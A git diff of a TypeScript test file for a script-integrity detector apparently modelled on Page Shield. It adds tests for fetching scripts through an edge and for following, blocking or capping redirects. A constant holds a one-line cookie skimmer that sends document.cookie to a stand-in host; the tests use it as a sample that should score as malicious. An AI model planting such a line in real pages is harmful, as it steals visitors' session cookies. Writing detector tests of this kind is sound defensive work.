@@ -3,7 +3,7 @@ import { createHash } from 'node:crypto';
 import { once } from 'node:events';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
-import { after, before, it, mock } from 'node:test';
+import { after, before, describe, it, mock } from 'node:test';
 import { gzipSync } from 'node:zlib';
 import {
   sampleHash,
@@ -13,7 +13,9 @@ import type { Alert } from '../../src/contracts/alert.ts';
 import type { PageObservation } from '../../src/contracts/events/page-observation.ts';
 import { ThreadedClassifier } from '../../src/detectors/script-classifier/threaded-classifier.ts';
 import { describeOnEachDatabase } from '../support/databases.ts';
+import { originOf, siteOf } from '../support/edge-snapshots.ts';
 import { openTestApi, type TestApi } from '../support/test-api.ts';
+import { openTestEdge, type TestEdge } from '../support/test-edge.ts';
 
 const HOUR = 3_600_000;
 const CLEAN = 'document.title = "Welcome";';
@@ -21,12 +23,19 @@ const SKIMMER = 'new Image().src = "//x.test/?" + document.cookie';
 const hashOf = (source: string) => createHash('sha256').update(source).digest('hex');
 const never = new AbortController().signal;
 
+interface Answer {
+  readonly status: number;
+  readonly type: string;
+  readonly location?: string;
+  readonly body: Buffer;
+}
+
 describeOnEachDatabase('fetching of scripts', (kind) => {
   let api: TestApi;
   let server: Server;
   let origin: string;
   const contents = new Map<string, string>();
-  const answers = new Map<string, { status: number; type: string; body: Buffer }>();
+  const answers = new Map<string, Answer>();
   /** Happens after the content was chosen, before it is sent. */
   const whenFetched = new Map<string, () => Promise<void>>();
   const fetched: string[] = [];
@@ -37,8 +46,9 @@ describeOnEachDatabase('fetching of scripts', (kind) => {
       fetched.push(request.url ?? '');
       const answer = answers.get(request.url ?? '');
       if (answer) {
-        const { status, type, body } = answer;
-        return void response.writeHead(status, { 'content-type': type }).end(body);
+        const { status, type, location, body } = answer;
+        const headers = { 'content-type': type, ...(location && { location }) };
+        return void response.writeHead(status, headers).end(body);
       }
       const content = contents.get(request.url ?? '');
       await whenFetched.get(request.url ?? '')?.();
@@ -224,6 +234,66 @@ describeOnEachDatabase('fetching of scripts', (kind) => {
     await see(zoneId, `${origin}/plain.js`);
     await run();
     assert.ok(!fetched.includes('/plain.js'));
+  });
+
+  describe('of a site that this node serves', () => {
+    let edge: TestEdge;
+    let zoneId: string;
+    let host: string;
+
+    before(async () => {
+      zoneId = await newZone();
+      const { name } = (await api.call('GET', `/zones/${zoneId}`)).body.result;
+      host = `www.${name}`;
+      const { zone, pool } = siteOf(name, [originOf(Number(new URL(origin).port))]);
+      edge = await openTestEdge({ zones: [{ ...zone, zoneId }], pools: [pool] });
+      api.core.sites.connect((request) => edge.fetch(request));
+    });
+    after(async () => {
+      api.core.sites.connect(async () => 'not-served');
+      await edge.close();
+    });
+
+    /** The script as it is known after it was seen on a page and fetched. */
+    async function scored(url: string, pageUrl: string) {
+      const times = { firstSeenAt: api.clock.now(), lastSeenAt: api.clock.now() };
+      await deliver(sampleScript(zoneId, { url, pageUrl, count: 3, ...times }));
+      await run();
+      const path = `/zones/${zoneId}/page_shield/scripts?urls=${encodeURIComponent(url)}`;
+      return (await api.call('GET', path)).body.result[0];
+    }
+
+    it('goes through the edge: the names of its hosts lead nowhere', async () => {
+      contents.set('/own.js', CLEAN);
+      const ofPage = await scored(`http://${host}:8080/own.js`, `http://${host}:8080/cart`);
+      assert.equal(ofPage.hash, hashOf(CLEAN));
+      assert.ok(ofPage.js_integrity_score > 50);
+      contents.set('/static.js', SKIMMER);
+      const ofOther = await scored(`https://static.${host}/static.js`, `https://${host}/cart`);
+      assert.ok(ofOther.js_integrity_score < 10);
+    });
+
+    it('follows redirects within the site and to others', async () => {
+      const redirect = (location: string) => ({
+        status: 302,
+        type: 'text/plain',
+        location,
+        body: Buffer.alloc(0),
+      });
+      contents.set('/target.js', CLEAN);
+      answers.set('/moved.js', redirect('/target.js'));
+      answers.set('/away.js', redirect(`${origin}/target.js`));
+      answers.set('/private.js', redirect('http://10.0.0.1/target.js'));
+      answers.set('/around.js', redirect('/around.js'));
+      const hashAt = async (path: string) =>
+        (await scored(`https://${host}${path}`, `https://${host}/cart`)).hash;
+      assert.equal(await hashAt('/moved.js'), hashOf(CLEAN));
+      assert.equal(await hashAt('/away.js'), hashOf(CLEAN));
+      assert.equal(await hashAt('/private.js'), null);
+      assert.equal(await hashAt('/around.js'), null);
+      assert.equal(fetches('/around.js'), 6);
+      answers.delete('/away.js');
+    });
   });
 
   it('stops when a script is no longer active, and starts when it is seen again', async () => {
